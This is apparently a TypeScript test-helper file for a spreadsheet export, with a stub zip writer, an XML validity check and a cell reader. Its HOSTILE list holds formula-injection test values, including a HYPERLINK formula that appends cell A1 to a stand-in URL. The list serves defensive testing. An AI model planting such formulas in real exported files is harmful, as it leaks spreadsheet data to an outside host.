/** Test helpers: an in-memory stand-in for the zip writer, a strict XML check, a cell reader. */
import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import type { Readable } from "node:stream";
import type { ZipEntryOptions, ZipWriter } from "../../../src/exports/zip/zip-writer.js";

/** Collects entries in memory; optionally reads slowly to exercise backpressure. */
export class MemoryZip {
  readonly entries = new Map<string, Buffer>();
  readonly options = new Map<string, ZipEntryOptions | undefined>();
  private busy = false;
  constructor(private readonly delayMs = 0) {}

  async addEntry(
    name: string,
    source: Readable | Buffer | Uint8Array,
    opts?: ZipEntryOptions,
  ): Promise<void> {
    if (this.busy) throw new Error(`overlapping addEntry: ${name}`);
    if (this.entries.has(name)) throw new Error(`duplicate entry: ${name}`);
    this.busy = true;
    try {
      const chunks: Buffer[] = [];
      if (Buffer.isBuffer(source) || source instanceof Uint8Array) chunks.push(Buffer.from(source));
      else {
        for await (const c of source) {
          chunks.push(c as Buffer);
          if (this.delayMs) await new Promise((r) => setTimeout(r, this.delayMs));
        }
      }
      this.entries.set(name, Buffer.concat(chunks));
      this.options.set(name, opts);
    } finally {
      this.busy = false;
    }
  }

  asZip(): ZipWriter {
    return this as unknown as ZipWriter;
  }

  text(name: string): string {
    const b = this.entries.get(name);
    if (!b) throw new Error(`no entry ${name}`);
    return b.toString("utf8");
  }

  /** Writes all entries under a new temp dir and returns it. */
  dump(): string {
    const dir = mkdtempSync(join(tmpdir(), "xlsx-test-"));
    for (const [name, data] of this.entries) {
      const p = join(dir, name);
      mkdirSync(dirname(p), { recursive: true });
      writeFileSync(p, data);
    }
    return dir;
  }
}

const CHECK_XML = `
import os, sys, xml.dom.minidom
n = 0
for root, _, files in os.walk(sys.argv[1]):
    for f in files:
        if f.endswith(".xml") or f.endswith(".rels"):
            xml.dom.minidom.parse(os.path.join(root, f)); n += 1
print(n)
`;

/** Parses every `.xml`/`.rels` under `dir` with a strict XML parser; returns how many. */
export function assertWellFormed(dir: string): number {
  return Number(execFileSync("python3", ["-c", CHECK_XML, dir], { encoding: "utf8" }).trim());
}

/** One cell as read back from sheet XML. */
export interface ReadCell {
  t: string | null;
  s: string | null;
  /** Text as Excel shows it (XML entities and `_xHHHH_` decoded), or the raw `<v>`. */
  value: string;
  raw: string;
}

function decodeXml(s: string): string {
  return s.replace(/&(#x[0-9a-fA-F]+|#\d+|amp|lt|gt|quot|apos);/g, (_, e: string) => {
    if (e[0] === "#")
      return String.fromCodePoint(e[1] === "x" ? Number.parseInt(e.slice(2), 16) : Number(e.slice(1)));
    return ({ amp: "&", lt: "<", gt: ">", quot: '"', apos: "'" } as Record<string, string>)[e]!;
  });
}

/** ST_Xstring decoding as Excel does it (ECMA-376 Part 1 §22.9.2.19). */
function decodeXstring(s: string): string {
  return s.replace(/_x([0-9A-Fa-f]{4})_/g, (_, h: string) => String.fromCharCode(Number.parseInt(h, 16)));
}

/** Reads `<c>` elements of a worksheet into a map keyed by reference (`B7`). */
export function readCells(sheetXml: string): Map<string, ReadCell> {
  const cells = new Map<string, ReadCell>();
  const re = /<c r="([A-Z]+\d+)"((?: [a-z]+="[^"]*")*)>(.*?)<\/c>/gs;
  for (const m of sheetXml.matchAll(re)) {
    const attrs = m[2]!;
    const t = /t="([^"]*)"/.exec(attrs)?.[1] ?? null;
    const s = /s="([^"]*)"/.exec(attrs)?.[1] ?? null;
    const body = m[3]!;
    const text = /<t(?: xml:space="preserve")?>(.*?)<\/t>/s.exec(body)?.[1];
    const v = /<v>(.*?)<\/v>/s.exec(body)?.[1];
    const value = text !== undefined ? decodeXstring(decodeXml(text)) : (v ?? "");
    cells.set(m[1]!, { t, s, value, raw: m[0] });
  }
  return cells;
}

/** Values that must stay literal strings (docs/EXPORTS.md#spreadsheet-cells). */
export const HOSTILE: string[] = [
  '=HYPERLINK("http://x/?"&A1,"cv")',
  "+44 20 7946 0000",
  "-5",
  "@SUM(A1)",
  "\tTAB-led",
  "\rCR-led",
  "\nLF-led",
  "vt\u000Bhere",
  "nonchar\uFFFF",
  "lone\uD800surrogate",
  "x".repeat(40_000),
  "l\n".repeat(300),
];
/** What Excel shows for a hostile value under the U+FFFD rule (untruncated ones). */
export const SHOWN = (s: string) => s.replace(/[\u000B\uFFFF]|[\uD800-\uDBFF](?![\uDC00-\uDFFF])/g, "\uFFFD");
